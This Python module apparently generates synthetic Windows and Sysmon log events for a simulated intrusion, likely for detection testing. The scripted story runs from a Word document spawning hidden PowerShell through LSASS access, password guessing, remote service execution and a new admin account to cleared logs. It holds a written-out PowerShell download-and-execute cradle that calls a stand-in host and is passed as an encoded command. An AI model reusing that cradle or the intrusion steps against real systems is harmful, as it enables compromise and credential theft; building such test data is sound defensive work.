"""A short intrusion: a document, a script, a beacon, guessed passwords and a cleared log."""

from __future__ import annotations

import base64
from dataclasses import replace
from typing import TYPE_CHECKING

from generator import accounts, logons, powershell, services, sysmon
from generator import programs as paths
from generator.background import start
from generator.company import (
    APP02,
    BACKUP,
    DC01,
    FS01,
    LARSEN_ADMIN,
    SYSTEM,
    WKS_0158,
    WKS_0163,
    WKS_0171,
    Account,
    Host,
)
from generator.integrity import FULL
from generator.scene import Process, Scene

if TYPE_CHECKING:
    from datetime import datetime

    from generator.envelope import Event

USER = WKS_0163.owner
BEACON = rf"C:\Users\{USER.name}\AppData\Roaming\NotesSync\notessync.exe"
DROP_NAME, DROP_ADDRESS = "cdn.example.net", "203.0.113.66"
DOWNLOAD = (
    "$client = New-Object System.Net.WebClient\n"
    "$client.Proxy = [System.Net.WebRequest]::GetSystemWebProxy()\n"
    f"$notes = $client.DownloadString('http://{DROP_NAME}/notes.txt')\n"
    "Invoke-Expression $notes\n"
)
DUMPING_STACK = (
    r"C:\Windows\SYSTEM32\ntdll.dll",
    r"C:\Windows\System32\KERNELBASE.dll",
    r"C:\Windows\System32\dbghelp.dll",
)


def _encoded(script: str) -> str:
    """Return a script as PowerShell's -EncodedCommand takes it."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def _run(scene: Scene, host: Host, at: datetime, image: str, command: str) -> Process:
    """Return a new process of the host's owner."""
    session = scene.logon(host, host.owner)
    return Process(image, scene.draw.process_id(), at, command, host.owner, session)


def document_opened(scene: Scene) -> tuple[Process, list[Event]]:
    """Word starts PowerShell with an encoded command that fetches more and drops a program."""
    host = scene.fleet.named(WKS_0163)
    command = f"powershell.exe -NoP -W Hidden -EncodedCommand {_encoded(DOWNLOAD)}"
    shell = _run(scene, host, scene.at(14, 21, 7.113), paths.POWERSHELL, command)
    script = powershell.Script((DOWNLOAD,), level="warning")
    answer = f"::ffff:{DROP_ADDRESS};"
    peer = sysmon.Peer(DROP_ADDRESS, 80)
    return shell, [
        *start(scene, host, shell, scene.resident(host, paths.WORD, USER)),
        *powershell.script_blocks(scene, host, scene.at(14, 21, 8.02), shell, script),
        sysmon.name_resolved(host, scene.at(14, 21, 8.377), shell, DROP_NAME, answer),
        sysmon.connected(scene, host, scene.at(14, 21, 8.43), shell, peer),
        sysmon.file_created(host, scene.at(14, 21, 11.9), shell, BEACON),
    ]


def beacon(scene: Scene, shell: Process) -> list[Event]:
    """What was dropped makes itself at home, calls out and reads the memory of LSASS."""
    host = scene.fleet.named(WKS_0163)
    process = _run(scene, host, scene.at(14, 21, 14.6), BEACON, f'"{BEACON}" /quiet')
    run_key = rf"HKU\{USER.sid}\Software\Microsoft\Windows\CurrentVersion\Run\NotesSync"
    lsass = scene.resident(host, paths.LSASS)
    peer = sysmon.Peer(DROP_ADDRESS, 443)
    calls = ((21, 16.2), (31, 17.9), (41, 15.4), (51, 18.8))
    accesses = ((0x1410, 2.7), (0x1010, 3.1))
    return [
        *start(scene, host, process, shell),
        sysmon.registry_value_set(host, scene.at(14, 21, 15.1), process, run_key, BEACON),
        *(
            sysmon.connected(scene, host, scene.at(14, minute, second), process, peer)
            for minute, second in calls
        ),
        *(
            sysmon.process_accessed(
                host, scene.at(14, 33, second), process, lsass, sysmon.Access(mask, DUMPING_STACK)
            )
            for mask, second in accesses
        ),
    ]


def slash_for_hyphen(scene: Scene) -> list[Event]:
    """Another machine: a script's host gives PowerShell its options with a slash."""
    host = scene.fleet.named(WKS_0171)
    command = f"powershell.exe /nop /enc {_encoded('whoami /all')}"
    shell = _run(scene, host, scene.at(14, 44, 58.4), paths.POWERSHELL, command)
    return start(scene, host, shell, scene.resident(host, paths.WSCRIPT, host.owner))


def guessed_passwords(scene: Scene) -> list[Event]:
    """Names and passwords are tried against the file server until one fits."""
    server = scene.fleet.named(FS01)
    tries = (
        (Account("administrator", ""), logons.WRONG_PASSWORD),
        (Account("admin", ""), logons.NO_SUCH_USER),
        (Account("backup", ""), logons.NO_SUCH_USER),
        (LARSEN_ADMIN, logons.WRONG_PASSWORD),
        (BACKUP, logons.WRONG_PASSWORD),
        (LARSEN_ADMIN, logons.LOCKED_OUT),
    )
    failures = [
        logons.logon_failed(
            scene, server, scene.at(14, 36, 3.4 * number), _over_ntlm(account), refusal
        )
        for number, (account, refusal) in enumerate(tries, start=1)
    ]
    return [*failures, *_entered(scene, server, scene.at(14, 37, 1.9), _over_ntlm(BACKUP))]


def _over_ntlm(account: Account) -> logons.Logon:
    client = WKS_0163
    return logons.Logon(account, 3, client.address, "NTLM", "NtLmSsp ", client.name)


def _entered(scene: Scene, server: Host, at: datetime, logon: logons.Logon) -> list[Event]:
    """Log a network logon whose session the account's later events there name."""
    open_session = replace(logon, session=scene.logon(server, logon.account))
    return [
        logons.logged_on(scene, server, at, open_session),
        logons.special_privileges(scene, server, at, open_session),
    ]


def moved_on(scene: Scene) -> list[Event]:
    """Services run commands on two servers, an account is made, the tracks are covered."""
    files, application, domain = (scene.fleet.named(host) for host in (FS01, APP02, DC01))
    helper = accounts.new_member("helpdesk3", 1268)
    promoted = accounts.Membership(BACKUP, helper, accounts.ADMINISTRATORS)
    at = scene.at(14, 39, 40.8)
    arguments = rf"/Q /c whoami 1> \\127.0.0.1\ADMIN$\__{at.timestamp():.0f} 2>&1"
    remote_shell = services.Service("QkXwTz", rf"%COMSPEC% {arguments}")
    dropped = services.Service("NotesSyncSvc", r"C:\Windows\Temp\ns4f81c2.exe", "auto start")
    shell = Process(
        paths.CMD,
        scene.draw.process_id(),
        scene.at(14, 39, 41.3),
        rf"C:\Windows\system32\cmd.exe {arguments}",
        SYSTEM,
        scene.logon(files, SYSTEM),
        FULL,
    )
    return [
        services.service_installed(files, at, remote_shell, BACKUP),
        *start(scene, files, shell, scene.resident(files, paths.SERVICES)),
        services.service_installed(application, scene.at(14, 52, 12.1), dropped, BACKUP),
        *_entered(scene, domain, scene.at(15, 2, 57.3), _over_ntlm(BACKUP)),
        accounts.user_created(scene, domain, scene.at(15, 3, 20.5), BACKUP, helper),
        accounts.member_added(scene, domain, scene.at(15, 3, 48.9), promoted),
        accounts.audit_log_cleared(scene, files, scene.at(15, 20, 33.2), BACKUP),
        accounts.log_cleared(files, scene.at(15, 20, 34.0), BACKUP, "Windows PowerShell"),
    ]


def new_colleague(scene: Scene) -> list[Event]:
    """The administrator makes an account for somebody who begins next week: no intrusion."""
    domain = scene.fleet.named(DC01)
    colleague = accounts.new_member("rsingh", 1266)
    allowed = accounts.Membership(LARSEN_ADMIN, colleague, accounts.REMOTE_DESKTOP_USERS)
    logon = logons.Logon(LARSEN_ADMIN, 3, WKS_0158.address, "Kerberos", "Kerberos")
    return [
        *_entered(scene, domain, scene.at(9, 40, 55.4), logon),
        accounts.user_created(scene, domain, scene.at(9, 41, 12.6), LARSEN_ADMIN, colleague),
        accounts.member_added(scene, domain, scene.at(9, 58, 3.3), allowed),
    ]


def whole_story(scene: Scene) -> list[Event]:
    """Return all of it."""
    shell, opened = document_opened(scene)
    return [
        *new_colleague(scene),
        *opened,
        *beacon(scene, shell),
        *guessed_passwords(scene),
        *slash_for_hyphen(scene),
        *moved_on(scene),
    ]
